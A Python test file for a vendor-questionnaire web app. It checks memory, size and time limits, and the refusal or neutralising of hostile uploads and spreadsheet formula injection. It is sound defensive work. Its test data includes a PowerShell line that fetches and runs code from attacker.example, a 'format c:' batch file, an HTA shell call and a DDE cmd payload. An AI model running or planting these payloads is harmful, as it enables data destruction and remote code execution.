"""Resource exhaustion and hostile files: one link or one small file must not take a worker's
memory or time, and nothing a vendor types or uploads may become live content in a file staff
open. Each test here reproduced its finding on main before the fix (the hostile corpus itself is
in tests/hostile_files.py). Timings and RSS are measured by bench/resource_limits.py, not here."""

import hashlib
import io
import json
import zipfile

import openpyxl
import pytest
from sqlalchemy import func, select

from assess.audit.models import AuditEvent
from assess.extensions import db
from assess.models import Answer, Evidence, Invitation, StoredFile
from tests import factories, hostile_files, samples
from tests.helpers import PASSWORD, csrf_token, post

SHEET_GOV = "情報管理体制"
GOV_PART = "xl/worksheets/sheet2.xml"  # 表紙 is sheet1, then the domains in order


@pytest.fixture
def world(app, make_user):
    with app.app_context():
        project = factories.project()
        first, second = factories.invite(project), factories.invite(project)
        db.session.commit()
    staff = app.test_client()
    post(staff, "/login", {"email": make_user("staff", department="shiminzei"), "password": PASSWORD})
    return {"project": first.project_id, "first": first, "second": second, "staff": staff,
            "link": f"/q/{first.token}"}


def answer_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Answer))


def item_section(html: str, cid: str) -> str:
    start = html.index(f'id="item-{cid}"')
    return html[start:html.index("</section>", start)]


# --- draft saves: memory, limits, budget, audit -----------------------------------------------

def test_no_process_wide_cache_keeps_what_a_vendor_typed(app, world):
    """Draft saves grew a worker by ~75 MB each: rendered blocks were cached by answer text."""
    from assess.questionnaires import blocks, forms, models, page
    from assess.util.bounded import BoundedCache

    client = app.test_client()
    for n in range(5):
        marker = f"下書き{n:03d}の本文"
        assert post(client, world["link"], {"a-GOV-01": "400", "c-GOV-01": marker * 200,
                                             "action": "save"}).status_code == 302
        assert marker in client.get(world["link"]).get_data(as_text=True)  # rendered per request
    for module in (page, blocks, forms, models):
        for name, value in vars(module).items():
            if type(value) is dict or type(value) is BoundedCache:  # type(): never touch a proxy
                assert "下書き" not in repr(list(value.items())), f"{module.__name__}.{name} holds answer text"


def test_an_item_drawn_from_its_cached_frame_is_the_item_the_macro_draws(app):
    """The frame (rendered once with markers) filled with a request's text equals the macro
    rendered with that text, for every variant the page can show."""
    from itertools import product

    from flask import get_template_attribute

    from assess.questionnaires import blocks, page, services
    from assess.questionnaires.answers import Entry

    with app.app_context():
        project = factories.project()
        factories.invite(project)
        version = services.latest_version(db.session, project.id)
        items = version.content["items"]
    texts = ["", "400", "yes", "lgwan", "<b>&\"'</b>", "\ue000 private-use text"]
    with app.test_request_context():
        item_block = get_template_attribute("questionnaires/_item.html", "item_block")
        evidence_list = get_template_attribute("questionnaires/_item.html", "evidence_list")
        for item, value, comment, flags, editable, returned, problem in product(
                items, texts, ["", "補足 <i>"], [(False, False, False), (True, True, True)], [True, False],
                ["", "差戻し <b>"], ["", "直してください &"]):
            na, secret, prefilled = flags
            entry = Entry(value or None, na, comment, secret, "理由 <&>" if secret else "", prefilled)
            view = page.ItemView(version.content_hash, page.item_head(version.content_hash, item), item, entry,
                                 editable, returned, problem, page.shown_value(item, entry))
            direct = item_block(blocks._StandIn(view, evidence_list(view, removable=editable)))
            assert blocks.render(view) == direct


def test_caches_are_bounded_in_bytes_and_drop_the_least_recently_used():
    from assess.util.bounded import BoundedCache

    cache = BoundedCache(max_bytes=10_000)
    for n in range(100):
        cache.put(n, "x" * 1000)
        cache.get(0)  # kept warm
    assert cache.held_bytes <= 10_000 and 0 in cache and 99 in cache and 50 not in cache
    cache.put("huge", "y" * 50_000)  # larger than the whole budget: never stored
    assert "huge" not in cache and cache.held_bytes <= 10_000


def test_a_draft_over_the_field_limit_is_refused_at_the_item_and_kept_in_the_form(app, world):
    typed = "長" * 10_001
    response = post(app.test_client(), world["link"], {"a-GOV-01": "400", "c-GOV-01": typed, "action": "save"})
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    section = item_section(html, "GOV-01")
    assert "10,000文字以内で入力してください（現在 10,001文字）。" in section and typed in section
    assert "保存できませんでした" in html
    assert answer_count(app) == 0


def test_answers_of_one_invitation_have_a_size_budget(app, world, monkeypatch):
    from assess.questionnaires import answers

    monkeypatch.setattr(answers, "MAX_INVITATION_TEXT", 25_000)
    client = app.test_client()
    first = {"a-GOV-01": "400", "c-GOV-01": "あ" * 9_000, "c-GOV-02": "い" * 9_000, "action": "save"}
    assert post(client, world["link"], first).status_code == 302
    more = {"c-NET-01": "う" * 9_000, "action": "save"}  # posted alone: the stored ones still count
    response = post(client, world["link"], more)
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "回答全体の文字数が上限（25,000文字）を超えます" in item_section(html, "NET-01")
    assert "う" * 9_000 in item_section(html, "NET-01")
    with app.app_context():
        assert db.session.scalar(select(Answer.comment).where(Answer.control_id == "NET-01")) is None


def test_the_audit_record_of_a_save_holds_what_changed_bounded(app, world):
    client = app.test_client()
    long_text = "記録" * 5_000
    post(client, world["link"], {"a-GOV-01": "400", "a-GOV-02": "yes", "c-GOV-01": long_text, "action": "save"})
    changed = long_text[:-1] + "了"
    post(client, world["link"], {"a-GOV-01": "400", "a-GOV-02": "yes", "c-GOV-01": changed, "action": "save"})
    with app.app_context():
        events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "answer.save")
                                    .order_by(AuditEvent.seq)).all()
        last = json.loads(events[-1].data)
    assert len(events[-1].data.encode()) < 2_000  # was ~60 KB: both full texts, every field
    assert set(last["after"]) == {"GOV-01"} and set(last["after"]["GOV-01"]) == {"comment"}
    comment = last["after"]["GOV-01"]["comment"]
    assert comment["length"] == 10_000 and comment["sha256"] == hashlib.sha256(changed.encode()).hexdigest()
    assert changed.startswith(comment["text"]) and len(comment["text"]) <= 200
    assert last["before"]["GOV-01"]["comment"]["sha256"] == hashlib.sha256(long_text.encode()).hexdigest()


# --- previews: pixel and time budgets ----------------------------------------------------------

def upload(client, link, name, data):
    form = {"a-GOV-01": "400", "action": "save", "csrf_token": csrf_token(client),
            "fk-GOV-01": "document", "f-GOV-01": (io.BytesIO(data), name)}
    return client.post(link, data=form, content_type="multipart/form-data",
                       follow_redirects=True).get_data(as_text=True)


def stored_files(app):
    with app.app_context():
        return db.session.execute(select(StoredFile.kind, StoredFile.has_thumb, StoredFile.pages)).all()


@pytest.mark.parametrize(("make", "message"), [
    (hostile_files.huge_page_pdf, "ページの大きさが極端なPDF（30000×30000ポイント）"),
    (hostile_files.user_unit_pdf, "ページの大きさが極端なPDF（595000×842000ポイント）"),
], ids=["30000-point MediaBox", "UserUnit 1000"])
def test_absurd_page_sizes_are_refused_before_anything_is_drawn(app, world, make, message):
    html = upload(app.test_client(), world["link"], "図面.pdf", make())
    assert f"図面.pdf: {message}" in html
    assert stored_files(app) == []


def test_a_large_drawing_is_previewed_at_a_capped_size(app, world):
    client = app.test_client()
    upload(client, world["link"], "A0図面.pdf", hostile_files.large_but_legal_pdf())
    assert stored_files(app) == [("pdf", True, 1)]
    with app.app_context():
        evidence_id = db.session.scalar(select(Evidence.id))
    from PIL import Image

    with client.get(f"{world['link']}/evidence/{evidence_id}/thumb") as response:
        thumb = Image.open(io.BytesIO(response.data))
    assert max(thumb.size) <= 480


@pytest.mark.parametrize("threads", [0, 1], ids=["forked directly", "through the fork server"])
def test_decoding_runs_in_a_budgeted_child_and_a_runaway_one_is_stopped(threads):
    import threading

    from assess.evidence import budget

    stop = threading.Event()
    others = [threading.Thread(target=stop.wait) for _ in range(threads)]  # a process with threads
    for thread in others:
        thread.start()
    try:
        assert budget.run(sum, [1, 2, 3], seconds=30) == 6
        with pytest.raises(budget.OverBudget):
            budget.run(_spin, None, seconds=0.5)
        with pytest.raises(budget.OverBudget):
            budget.run(_hoard, None, seconds=30, memory=256 * 1024 * 1024)
    finally:
        stop.set()
        for thread in others:
            thread.join()


def _spin(_):
    while True:
        pass


def _hoard(_):
    return bytearray(2 * 1024 * 1024 * 1024)


# --- active content -----------------------------------------------------------------------------

@pytest.mark.parametrize("case", list(hostile_files.ACTIVE_PDFS))
def test_pdfs_with_active_content_are_refused(app, world, case):
    html = upload(app.test_client(), world["link"], "提案書.pdf", hostile_files.ACTIVE_PDFS[case]())
    assert "提案書.pdf: アクティブな内容を含むPDF" in html
    assert stored_files(app) == []


def test_a_pdf_that_only_says_how_to_open_is_accepted(app, world):
    upload(app.test_client(), world["link"], "規程.pdf", hostile_files.open_action_view_pdf())
    assert stored_files(app) == [("pdf", True, 1)]


@pytest.mark.parametrize(("make", "message"), [
    (hostile_files.docx_with_remote_template, "外部のテンプレート（https://attacker.example/t.dotm）"),
    (hostile_files.docx_with_macros, "マクロ（VBA）"),
], ids=["remote attachedTemplate", "vbaProject"])
def test_word_files_with_active_content_are_refused(app, world, make, message):
    html = upload(app.test_client(), world["link"], "規程.docx", make())
    assert "規程.docx: アクティブな内容を含むWord文書" in html and message in html
    assert stored_files(app) == []


# --- what a download is called ------------------------------------------------------------------

@pytest.mark.parametrize(("name", "data", "served"), [
    ("setup.bat", b"@echo off\r\nformat c: /q\r\n", "setup.txt"),
    ("run.ps1", b"Invoke-WebRequest https://attacker.example/x | iex\n", "run.txt"),
    ("report.html", samples.pdf(), "report.pdf"),
    ("写真", samples.png(), "写真.png"),
    ("ログ.csv", "日時,利用者\n".encode("cp932"), "ログ.csv"),
    ("入口.JPG", samples.jpeg_with_exif(), "入口.JPG"),
])
def test_downloads_are_named_with_the_detected_kinds_extension(app, world, name, data, served):
    from urllib.parse import quote

    client = app.test_client()
    upload(client, world["link"], name, data)
    with app.app_context():
        evidence_id = db.session.scalar(select(Evidence.id))
    for url in (f"{world['link']}/evidence/{evidence_id}/file", f"/evidence/{evidence_id}/file"):
        with (client if url.startswith("/q/") else world["staff"]).get(url) as response:
            disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert f"filename*=UTF-8''{quote(served)}" in disposition or f"filename={served}" in disposition


def test_text_is_scanned_whole_for_markup(app, world):
    hta = b"REM notes\r\n" * 8000 + b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"
    html = upload(app.test_client(), world["link"], "setup.hta", hta)
    assert "setup.hta: このファイル形式は受け付けていません（検出された形式: HTML）" in html
    assert stored_files(app) == []


# --- returned workbooks and ZIPs ------------------------------------------------------------------

def exported(world) -> bytes:
    with world["staff"].get(f"/invitations/{world['first'].invitation_id}/package.xlsx") as response:
        assert response.status_code == 200
        return response.data


def filled(world, edit=None) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(exported(world)))
    book[SHEET_GOV]["D5"], book[SHEET_GOV]["D6"], book["通信環境"]["D5"] = 400, "はい", "LGWAN接続系"
    if edit:
        edit(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def send_package(world, data: bytes, evidence: bytes | None = None):
    files = {"package": (io.BytesIO(data), "返送.xlsx")}
    if evidence is not None:
        files["evidence"] = (io.BytesIO(evidence), "証跡.zip")
    staff = world["staff"]
    return staff.post(f"/invitations/{world['first'].invitation_id}/import",
                      data={**files, "csrf_token": csrf_token(staff)}, content_type="multipart/form-data")


def test_a_value_in_the_last_row_of_a_sheet_does_not_walk_a_million_rows(app, world):
    """38 KB that made the reader create a million cells per sheet (seconds and ~300 MB each)."""
    import tracemalloc

    def far_below(book):
        for name in (SHEET_GOV, "通信環境"):
            book[name]["D1048576"] = "最終行"

    data = filled(world, far_below)
    assert len(data) < 60_000
    tracemalloc.start()
    try:
        response = send_package(world, data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert response.status_code == 200, response.get_data(as_text=True)[-600:]
    assert peak < 64 * 1024 * 1024, f"{peak / 1024 / 1024:.0f} MB"
    with app.app_context():
        assert db.session.get(Invitation, world["first"].invitation_id).state == "submitted"


def test_a_returned_workbook_is_held_to_the_same_budget(app, world, monkeypatch):
    from assess.questionnaires import answers

    monkeypatch.setattr(answers, "MAX_INVITATION_TEXT", 1_000)
    response = send_package(world, filled(world, lambda b: b[SHEET_GOV].__setitem__("G5", "長" * 1_200)))  # + 11 in answers
    assert response.status_code == 400
    assert "回答全体の文字数が上限（1,000文字）を超えています（1,211文字）" in response.get_data(as_text=True)
    assert answer_count(app) == 0


BROKEN = {
    "XXE DOCTYPE": (lambda d: hostile_files.with_doctype(d, GOV_PART), "DOCTYPE"),
    "broken sheet XML": (lambda d: hostile_files.with_broken_xml(d, GOV_PART), "XMLとして読めません"),
    "CRC mismatch": (lambda d: hostile_files.with_bad_crc(d, GOV_PART), "CRC"),
    "encrypted entry": (lambda d: hostile_files.with_encrypted_entry(d, GOV_PART), "暗号化"),
    "deflate64 entry": (lambda d: hostile_files.with_deflate64_entry(d, GOV_PART), "圧縮方式"),
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_a_broken_workbook_is_reported_with_the_part_named(app, world, case):
    breaks, reason = BROKEN[case]
    response = send_package(world, breaks(filled(world)))
    html = response.get_data(as_text=True)
    assert response.status_code == 400, html[-800:]
    assert f"ブックが壊れています（{GOV_PART}" in html and reason in html
    assert answer_count(app) == 0


@pytest.mark.parametrize("case", ["CRC mismatch", "encrypted entry", "deflate64 entry"])
def test_a_broken_evidence_zip_is_reported_with_the_entry_named(app, world, case):
    name = "GOV-01/規程.txt"
    archive = hostile_files.zip_of({name: "規程の本文\n".encode() * 50})
    breaks = {"CRC mismatch": hostile_files.with_bad_crc, "encrypted entry": hostile_files.with_encrypted_entry,
              "deflate64 entry": hostile_files.with_deflate64_entry}[case]
    response = send_package(world, filled(world), breaks(archive, name))
    html = response.get_data(as_text=True)
    assert response.status_code == 400, html[-800:]
    assert f"ZIPが壊れています（{name}" in html
    assert answer_count(app) == 0


# --- spreadsheets staff open ---------------------------------------------------------------------

def publish_question(app, world, body: str, reply: str) -> None:
    from assess.audit.services import Actor
    from assess.questionnaires import qa

    with app.app_context():
        question = qa.ask(db.session, db.session.get(Invitation, world["first"].invitation_id), body, None)
        qa.answer(db.session, Actor.cli("test"), question, reply, publish=True)
        db.session.commit()


def sheet_xml(data: bytes, part: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(part).decode()


def test_one_published_question_with_a_word_line_break_leaves_every_package_working(app, world):
    publish_question(app, world, "改行を\x0b含む質問\x07です", "=HYPERLINK(\"https://attacker.example\",\"詳細\")")
    post(app.test_client(), world["link"], {"a-GOV-01": "400", "c-GOV-01": "=1+1\x0b二行目", "action": "save"})
    for invited in (world["first"], world["second"]):
        with world["staff"].get(f"/invitations/{invited.invitation_id}/package.xlsx") as response:
            assert response.status_code == 200
            data = response.data
        cover = openpyxl.load_workbook(io.BytesIO(data))["表紙"]
        texts = [c.value for row in cover.iter_rows() for c in row if isinstance(c.value, str)]
        assert any(t.startswith("改行を\n含む質問です\n回答: =HYPERLINK(") for t in texts)
        assert "<f>" not in sheet_xml(data, "xl/worksheets/sheet1.xml")  # the cover holds no formula
    book = openpyxl.load_workbook(io.BytesIO(exported(world)))
    assert book[SHEET_GOV]["G5"].value == "=1+1\n二行目" and book[SHEET_GOV]["G5"].data_type == "s"


def test_comparison_workbook_takes_any_vendor_name_as_text(app, world):
    with app.app_context():
        invitation = db.session.get(Invitation, world["second"].invitation_id)
        invitation.vendor.name = "=HYPERLINK(\"https://attacker.example\",\"株式会社\x0bテスト\")"
        db.session.commit()
    with world["staff"].get(f"/projects/{world['project']}/comparison.xlsx") as response:
        assert response.status_code == 200
        data = response.data
    book = openpyxl.load_workbook(io.BytesIO(data))
    names = [c.value for c in book["比較"]["B"] if isinstance(c.value, str)]
    assert "=HYPERLINK(\"https://attacker.example\",\"株式会社\nテスト\")" in names
    assert all("<f>" not in sheet_xml(data, f"xl/worksheets/sheet{n}.xml") for n in (1, 2, 3))


def test_workbook_cells_are_cleaned_and_always_text():
    from openpyxl import Workbook

    from assess.exchange.cells import put

    sheet = Workbook().active
    for n, value in enumerate(["=cmd|' /C calc'!A0", "+1", "@SUM(A1)", "a\x0bb\x00c\x1f", 5, None], start=1):
        put(sheet, n, 1, value)
    assert [sheet.cell(n, 1).value for n in range(1, 7)] == ["=cmd|' /C calc'!A0", "+1", "@SUM(A1)", "a\nbc", 5, None]
    assert [sheet.cell(n, 1).data_type for n in range(1, 4)] == ["s", "s", "s"]
    assert sheet.cell(1, 1).quotePrefix
